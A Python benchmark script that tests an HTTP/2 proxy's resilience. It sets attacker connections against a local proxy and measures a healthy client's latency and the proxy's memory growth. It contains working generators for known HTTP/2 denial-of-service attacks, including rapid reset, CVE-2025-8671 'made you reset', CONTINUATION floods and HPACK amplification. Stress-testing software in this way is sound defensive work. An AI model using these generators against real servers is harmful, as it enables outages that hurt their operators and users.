"""A healthy HTTP/2 client beside one that attacks: ``scripts/bench abuse [ATTACK ...]``. Linux only.

The attacker has connections of its own through the same proxy and does one thing as fast as it is let to. When the proxy ends one of them,
it opens another. Beside it, and once alone, a client asks every 20 ms for 1 KiB. Its latency is what is measured, with how much the proxy
grows for each connection of the attacker, and the errors of the GOAWAYs that the attacker got.
"""

import argparse
import asyncio
import contextlib
import itertools
import os
import ssl
import statistics
import struct
import subprocess
import sys
import tempfile
import time
from collections import Counter
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass, replace
from pathlib import Path

import uvloop
from rich.console import Console
from rich.table import Table

from bench import native_tools, opponents
from bench.certificates import NAME, make_certificates
from bench.process_cpu import Cores, prefix_command
from bench.running import RunningProxy, free_port
from bench.scenarios import Route

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4
WIDE = (1 << 31) - 1 - 65535
EVERY = 0.02
ATTACKERS = 8
MIB = 1 << 20
ERRORS = (
    *("NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR"),
    *("REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"),
)


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """Return one frame."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def literal(name: bytes, value: bytes) -> bytes:
    """Return a field of HPACK that enters no table, its lengths below 127."""
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


def head(authority: str, path: str, *, posts: bool = False) -> bytes:
    """Return the block of a request."""
    return (b"\x83" if posts else b"\x82") + b"\x87" + literal(b":path", path.encode()) + literal(b":authority", authority.encode())


def settings(**values: int) -> bytes:
    """Return the payload of SETTINGS: `initial_window_size`."""
    return b"".join(struct.pack(">HI", INITIAL_WINDOW_SIZE, value) for value in values.values())


def streams() -> Iterator[int]:
    """Return the numbers of a client's streams, of which a connection has a billion."""
    return itertools.count(1, 2)


# Each takes the authority of the upstream and returns what is sent on one connection, piece by piece


def rapid_reset(authority: str) -> Iterator[bytes]:
    """Open streams and reset them."""
    block = head(authority, "/1024")
    for number in streams():
        yield frame(HEADERS, END_STREAM | END_HEADERS, number, block) + frame(RST_STREAM, 0, number, b"\0\0\0\x08")


def made_you_reset(authority: str) -> Iterator[bytes]:
    """Open streams and make the proxy reset them (CVE-2025-8671)."""
    block = head(authority, "/1024")
    for number in streams():
        yield frame(HEADERS, END_STREAM | END_HEADERS, number, block) + frame(WINDOW_UPDATE, 0, number, bytes(4))


def endless_continuation(authority: str) -> Iterator[bytes]:
    """Begin a head and never end it."""
    yield frame(HEADERS, END_STREAM, 1, head(authority, "/1024"))
    for _ in itertools.count():
        yield frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 100)


def heads_by_reference(authority: str) -> Iterator[bytes]:
    """Let a field of 4,000 octets enter the table, and name it again and again."""
    value = b"v" * 3900
    entered = b"\x40\x01x\x7f" + bytes((((len(value) - 127) & 127) | 128, (len(value) - 127) >> 7)) + value
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, head(authority, "/1024") + entered)
    for number in itertools.islice(streams(), 1, None):
        yield frame(HEADERS, END_STREAM | END_HEADERS, number, head(authority, "/1024") + b"\xbe" * 15)


def settings_flood(authority: str) -> Iterator[bytes]:
    """Send SETTINGS, each of which wants an answer."""
    while True:
        yield frame(SETTINGS) * 100


def ping_flood(authority: str) -> Iterator[bytes]:
    """Send PING, each of which wants an answer."""
    while True:
        yield frame(PING, 0, 0, bytes(8)) * 100


def window_flips(authority: str) -> Iterator[bytes]:
    """Let a hundred responses wait, and let and forbid them to go on by SETTINGS."""
    yield frame(SETTINGS, 0, 0, settings(initial_window_size=0))
    for number in itertools.islice(streams(), 100):
        yield frame(HEADERS, END_STREAM | END_HEADERS, number, head(authority, "/1000000"))
    while True:
        yield (frame(SETTINGS, 0, 0, settings(initial_window_size=1)) + frame(SETTINGS, 0, 0, settings(initial_window_size=0))) * 50


def tiny_windows(authority: str) -> Iterator[bytes]:
    """Take a hundred responses octet by octet."""
    yield frame(SETTINGS, 0, 0, settings(initial_window_size=1))
    numbers = list(itertools.islice(streams(), 100))
    for number in numbers:
        yield frame(HEADERS, END_STREAM | END_HEADERS, number, head(authority, "/1000000"))
    while True:
        yield b"".join(frame(WINDOW_UPDATE, 0, number, b"\0\0\0\x01") for number in numbers)


def window_updates(authority: str) -> Iterator[bytes]:
    """Widen a window that nothing needs."""
    yield frame(HEADERS, END_HEADERS, 1, head(authority, "/1024", posts=True))
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") * 100 + frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01") * 100


def empty_data(authority: str) -> Iterator[bytes]:
    """Upload nothing, in many frames."""
    yield frame(HEADERS, END_HEADERS, 1, head(authority, "/1024", posts=True))
    while True:
        yield frame(DATA, 0, 1) * 100


def priorities(authority: str) -> Iterator[bytes]:
    """Give streams that are not there a priority."""
    for number in streams():
        yield frame(PRIORITY, 0, number, bytes(5)) * 100


def unknown_frames(authority: str) -> Iterator[bytes]:
    """Send frames of a kind that is not known."""
    while True:
        yield frame(0xBB) * 100


def unfinished_uploads(authority: str) -> Iterator[bytes]:
    """Begin a hundred uploads of 64 KiB and end none."""
    piece = bytes(16384)
    for number in itertools.islice(streams(), 100):
        yield frame(HEADERS, END_HEADERS, number, head(authority, "/1024", posts=True)) + frame(DATA, 0, number, piece) * 3


def requests(authority: str) -> Iterator[bytes]:
    """Ask as much as is let, and read all answers."""
    block = head(authority, "/1024")
    for number in streams():
        yield frame(HEADERS, END_STREAM | END_HEADERS, number, block)


ATTACKS: dict[str, Callable[[str], Iterator[bytes]]] = {
    each.__name__: each
    for each in (
        *(rapid_reset, made_you_reset, endless_continuation, heads_by_reference, settings_flood, ping_flood, window_flips, tiny_windows),
        *(window_updates, empty_data, priorities, unknown_frames, unfinished_uploads, requests),
    )
}


@dataclass(frozen=True)
class Way:
    """The way through a proxy to an upstream."""

    proxy: str
    authority: str
    trusted: Path

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Open a connection that speaks HTTP/2."""
        host, _, port = self.proxy.rpartition(":")
        context = ssl.create_default_context(cafile=str(self.trusted))
        context.set_alpn_protocols(["h2"])
        reader, writer = await asyncio.open_connection(host, int(port), limit=1 << 20)
        writer.write(f"CONNECT {self.authority} HTTP/1.1\r\nHost: {self.authority}\r\n\r\n".encode())
        answer = await reader.readuntil(b"\r\n\r\n")
        assert b" 200 " in answer, answer
        await writer.start_tls(context, server_hostname=NAME)
        return reader, writer


async def frames(reader: asyncio.StreamReader) -> AsyncIterator[tuple[int, int, int, bytes]]:
    """Yield kind, flags, stream and payload of each frame, until the other side ends."""
    with contextlib.suppress(asyncio.IncompleteReadError, OSError):
        while True:
            start = await reader.readexactly(9)
            payload = await reader.readexactly(int.from_bytes(start[:3], "big"))
            yield start[3], start[4], int.from_bytes(start[5:], "big"), payload


async def attack(way: Way, name: str) -> None:
    """Attack until the process is ended; writes the error of each GOAWAY to standard output."""
    await asyncio.gather(*(_attack_again_and_again(way, ATTACKS[name]) for _ in range(ATTACKERS)))


async def _attack_again_and_again(way: Way, pieces: Callable[[str], Iterator[bytes]]) -> None:
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await way.connect()
            reading = asyncio.create_task(_read_all(reader))
            with contextlib.suppress(OSError):
                writer.write(PREFACE + frame(SETTINGS) + frame(WINDOW_UPDATE, 0, 0, WIDE.to_bytes(4, "big")))
                for piece in pieces(way.authority):
                    writer.write(piece)
                    await writer.drain()
                    if reading.done():
                        break
                    await asyncio.sleep(0)
            await reading
            writer.transport.abort()


async def _read_all(reader: asyncio.StreamReader) -> None:
    async for kind, _, _, payload in frames(reader):
        if kind == GOAWAY:
            print(int.from_bytes(payload[4:8], "big"), flush=True)


async def ask(way: Way, seconds: float) -> list[float]:
    """Ask for 1 KiB every 20 ms on one connection; return how many milliseconds each answer took."""
    reader, writer = await way.connect()
    writer.write(PREFACE + frame(SETTINGS) + frame(WINDOW_UPDATE, 0, 0, WIDE.to_bytes(4, "big")))
    received = frames(reader)
    block = head(way.authority, "/1024")
    took: list[float] = []
    ends = time.monotonic() + seconds
    for number in streams():
        began = time.monotonic()
        if began > ends:
            break
        writer.write(frame(HEADERS, END_STREAM | END_HEADERS, number, block))
        while True:
            kind, flags, stream, payload = await anext(received)
            if kind == GOAWAY or kind == RST_STREAM:
                raise RuntimeError(f"the healthy client was refused: {kind} {payload!r}")
            if kind == SETTINGS and not flags & ACK:
                writer.write(frame(SETTINGS, ACK))
            if stream == number and flags & END_STREAM and kind in (DATA, HEADERS):
                break
        took.append((time.monotonic() - began) * 1000)
        await asyncio.sleep(max(0.0, EVERY - (time.monotonic() - began)))
    writer.transport.abort()
    return took


def beside(way: Way, attacked: str, name: str, seconds: float, cores: Cores) -> tuple[list[float], str]:
    """Return the latencies of the healthy client beside an attack on another upstream, and what the proxy said to the attacker."""
    command = [*prefix_command(cores.load), sys.executable, "-m", "bench.abuse", "--attack", name]
    command += ["--proxy", way.proxy, "--authority", attacked, "--trusted", str(way.trusted)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, cwd=Path(__file__).parents[1], preexec_fn=lambda: os.nice(5)) as attacker:
        # it has begun when its interpreter has started
        time.sleep(1.0)
        if attacker.poll() is not None:
            sys.exit(f"the attacker of {name} ended with {attacker.returncode}")
        try:
            took = uvloop.run(ask(way, seconds))
        finally:
            attacker.kill()
        assert attacker.stdout is not None
        said = Counter(ERRORS[int(line)] for line in attacker.stdout.read().split())
    return took, ", ".join(f"{error} ×{count}" for error, count in said.most_common()) or "-"


def main(arguments: list[str]) -> int:
    """Measure and print; the exit status is 1 when a 99th percentile (median of the rounds) was over 50 ms, or a connection took 8 MiB."""
    parser = argparse.ArgumentParser(prog="scripts/bench abuse", description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attacks", nargs="*", choices=[*ATTACKS, []], metavar="ATTACK", help=f"which [all]: {', '.join(ATTACKS)}")
    parser.add_argument("--seconds", type=float, default=4.0, help="length of one run [4]")
    parser.add_argument("--rounds", type=int, default=3, help="runs of each [3]")
    for name in ("--attack", "--proxy", "--authority", "--trusted"):
        parser.add_argument(name, help=argparse.SUPPRESS)
    options = parser.parse_args(arguments)
    if options.attack:
        uvloop.run(attack(Way(options.proxy, options.authority, Path(options.trusted)), options.attack))
        return 0
    cores = Cores(pin=True)
    table = Table("attack", "p50 ms", "p99 ms", "longest ms", "MiB each", "said to the attacker", title=f"A healthy client; {cores}")
    is_good = True
    with tempfile.TemporaryDirectory(prefix="soth-mitm-abuse-") as scratch, contextlib.ExitStack() as stack:
        certificates = make_certificates(Path(scratch) / "certificates")
        tools = native_tools.build(http2=True)

        def start_origin(*prefix: str) -> str:
            command = [*prefix_command(cores.origin), *prefix]
            origin = native_tools.Origin(tools, certificates.chain, certificates.key, command, http2=True)
            return f"127.0.0.1:{stack.enter_context(origin).tls_port}"

        # the attacker has an upstream of its own, or that one's work would be measured
        authority, attacked = start_origin(), start_origin("nice", "-n", "10")
        for name in ("", *(options.attacks or ATTACKS)):
            folder, port = Path(scratch) / (name or "alone"), free_port()
            folder.mkdir(mode=0o700)
            launch = opponents.BY_NAME["soth-mitm+hook"].plans[Route.HTTP2](opponents.Ground(authority, certificates, port, folder))
            launch = replace(launch, command=[*launch.command, "--destination", attacked])
            with RunningProxy("soth-mitm", launch, port, folder, prefix_command(cores.proxy)) as proxy:
                way = Way(proxy.address, authority, launch.trusted_ca)
                uvloop.run(ask(way, 0.5))
                before = proxy.tree.resident_bytes()
                if name:
                    rounds = [beside(way, attacked, name, options.seconds, cores) for _ in range(options.rounds)]
                else:
                    rounds = [(uvloop.run(ask(way, options.seconds)), "")]
                grown = (proxy.tree.resident_bytes() - before) / MIB / ATTACKERS
            p99 = statistics.median(statistics.quantiles(took, n=100)[98] for took, _ in rounds)
            p50 = statistics.median(statistics.median(took) for took, _ in rounds)
            longest = max(max(took) for took, _ in rounds)
            table.add_row(name or "alone", f"{p50:.1f}", f"{p99:.1f}", f"{longest:.1f}", f"{grown:.1f}", rounds[-1][1])
            is_good &= p99 <= 50 and grown < 8
    Console(width=max(120, Console().width)).print(table)
    return 0 if is_good else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
